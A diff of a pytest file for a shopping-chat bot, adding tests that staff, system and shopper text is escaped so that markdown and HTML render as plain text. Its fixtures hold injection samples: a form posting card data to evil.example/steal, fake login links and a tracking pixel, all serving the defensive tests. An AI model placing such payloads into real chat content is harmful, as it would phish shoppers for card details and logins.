@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import re
+
 import pytest
 
 from bot._analytics import AdStats, Analytics
@@ -21,6 +23,7 @@ from bot.app._render import (
     add_shopper_text,
     apply_event,
     drop_pending,
+    escape_md,
     format_price,
     merge_messages,
     product_card,
@@ -81,9 +84,44 @@ def test_each_role_becomes_a_gradio_message_and_notes_stay_private():
     assert to_chat_message(msg(5, "note", "customer is angry", author="alex")) is None
 
 
-def test_staff_names_cannot_inject_markdown():
-    out = to_chat_message(msg(3, "staff", "hi", author="[x](http://evil)"))
-    assert "\\[x\\]\\(http://evil\\)" in out["content"]
+HOSTILE = ('<form action="https://evil.example/steal"><input name="card"><button>Verify</button></form>\n'
+           "[Track your parcel](https://evil.example/login) ![](https://evil.example/pixel.png)\n"
+           "https://evil.example/a www.evil.example mail@evil.example <https://evil.example>\n"
+           "    indented code\n# Heading\n> quote\n1. list **bold** _em_ `code` $$x^2$$ &amp; ```js\n|a|b|")
+
+
+def rendered(markdown: str) -> str:
+    """CommonMark with raw HTML allowed: what a markdown renderer makes of the text."""
+    markdown_it = pytest.importorskip("markdown_it")
+    return markdown_it.MarkdownIt("commonmark", {"html": True}).render(markdown)
+
+
+def test_escape_md_makes_any_text_plain():
+    import html
+
+    out = escape_md(HOSTILE)
+    assert html.unescape(out) == HOSTILE  # shows exactly what was written...
+    bare = re.sub(r"&#\d+;", " ", out)  # what is left outside the character references
+    for syntax in ("<", ">", "[", "]", "(", "*", "_", "`", "$", "#", "://", "www.", "@", "|", "&"):
+        assert syntax not in bare, syntax  # ...with nothing a renderer (or a GFM autolinker) would read as markup
+    assert not re.search(r"^\s", out, re.MULTILINE)  # no indentation: four spaces would open a code block
+    page = rendered(out)
+    for tag in ("<form", "<input", "<a ", "<img", "<h1", "<blockquote", "<ol", "<strong", "<em", "<code", "<pre"):
+        assert tag not in page, tag
+    assert "&lt;form" in page or "&#60;form" in page
+    assert escape_md("Ana Trail 2") == "Ana Trail 2" and escape_md("a\r\nb") == "a\nb"
+
+
+def test_staff_and_system_text_is_plain_in_the_shoppers_chat():
+    staff = to_chat_message(msg(3, "staff", HOSTILE, author="[x](http://evil)"))["content"]
+    system = to_chat_message(msg(4, "system", HOSTILE))["content"]
+    for content in (staff, system):
+        page = rendered(content)
+        assert "<form" not in page and "<a " not in page and "<img" not in page and "://" not in content
+    assert staff.startswith("**&#91;x&#93;") and "(ShopTalk team):**" in staff  # only our own markup is markup
+    assert "<strong>" in rendered(staff)
+    # The bot's own replies keep their markdown (bold product names, lists).
+    assert to_chat_message(msg(5, "bot", "**Ridge Runner**"))["content"] == "**Ridge Runner**"
 
 
 def test_a_streamed_turn_folds_into_one_bubble_per_message():
@@ -221,6 +259,21 @@ def test_conversation_header():
     assert "waiting" in text and "safety" in text and "high priority" in text and "Ana Trail" in text
 
 
+def test_what_shoppers_wrote_is_inert_in_the_console():
+    """A URL or markup in a handoff summary, a name or a CSAT comment is text for the agent, not a link."""
+    text = conversation_markdown(conv(status="waiting", handoff_reason="[urgent](https://evil.example)",
+                                      handoff_summary="Shopper says: log in at https://evil.example/x <img src=x>",
+                                      csat=1, csat_comment="www.evil.example"), "<b>Eve</b>")
+    page = rendered(text)
+    assert "<a " not in page and "<img" not in page and "<b>" not in page and "://" not in text
+    assert "Handoff reason:" in page and "Summary:" in page  # the header's own markup still renders
+    profile = ShopperProfile("C1", "customer", "Ana", (), (), None, None, 0.0, 0.0, 0.0, 0.0, 0, 0, 0, 0, 0,
+                             ("https://evil.example/deal",))
+    assert "<a " not in rendered(profile_markdown(profile))
+    behaviour = behaviour_markdown([{"event": "search", "item_id": None, "query": "[x](https://evil.example)"}])
+    assert "<a " not in rendered(behaviour)
+
+
 def test_profile_orders_and_behaviour(mini_shop, products):
     profile = ShopperProfile("C1", "customer", "Ana Trail", (("Trail Running Shoes", 0.6),), (("Summit", 0.7),),
                              (80.0, 130.0), 1.0, 2.0, 12.0, 1.0, 289.0, 20, 2, 1, 1, 0, ("waterproof shoes",))
@@ -317,6 +370,16 @@ def test_build_app_has_the_three_pages(mini_shop):
     assert {path for path, _, _ in demo.pages} >= {"", "console", "analytics"}
 
 
+def test_the_chat_renders_no_latex_and_no_custom_tags(mini_shop):
+    from bot.app import build_app
+
+    demo = build_app(_BuildOnlyChat(mini_shop))
+    chat = next(c["props"] for c in demo.config["components"] if c["props"].get("elem_id") == "st-chat")
+    assert chat["sanitize_html"] is True and chat["allow_tags"] is False and chat["latex_delimiters"] == []
+    queue = next(c["props"] for c in demo.config["components"] if c["props"].get("elem_id") == "st-queue")
+    assert queue["datatype"] == "str"  # the console's queue shows shoppers' last messages as text
+
+
 def test_model_work_is_limited_and_polling_is_not(mini_shop):
     """One long generation must not hold up polling, buttons or other pages."""
     from bot.app import build_app
@@ -326,7 +389,7 @@ def test_model_work_is_limited_and_polling_is_not(mini_shop):
         fns.setdefault(fn.name, set()).add((fn.concurrency_id, fn.concurrency_limit))
     assert fns["respond"] == {("model", 2)} and fns["make_draft"] == {("model", 2)}
     assert fns["poll"] == {("poll", None)} and fns["refresh"] == {("console-poll", None)}
-    assert all(limit is None or limit >= 16 for name in ("start", "ask_human", "like", "on_load")
+    assert all(limit is None or limit >= 16 for name in ("start", "ask_human", "like", "open_conversation")
                for _, limit in fns[name])
 
 
